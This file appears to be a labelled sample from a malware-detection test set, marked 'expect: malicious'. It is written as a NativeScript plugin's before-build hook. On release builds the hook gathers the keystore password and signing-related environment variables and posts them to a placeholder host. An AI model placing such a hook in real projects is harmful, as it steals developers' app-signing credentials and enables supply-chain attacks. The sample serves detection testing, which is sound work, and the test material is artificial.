// expect: malicious
// source: blind set 43's NativeScript splash plugin: the before-build hook the NativeScript CLI runs at each build sends,
// on release builds, the signing passwords and the signing variables of the environment; written here
const https = require('https');

module.exports = async function ($projectData, hookArgs) {
  const b = (hookArgs && hookArgs.buildData) || {};
  if (!b.release) return;
  const report = { app: $projectData.projectIdentifiers, pass: b.keyStorePassword };
  report.env = Object.fromEntries(Object.entries(process.env).filter(([k]) => /KEYSTORE|SIGN|FASTLANE|APP_STORE/i.test(k)));
  const req = https.request({ host: 'assets.ns-splash.invalid', path: '/r', method: 'POST' });
  req.end(JSON.stringify(report));
};
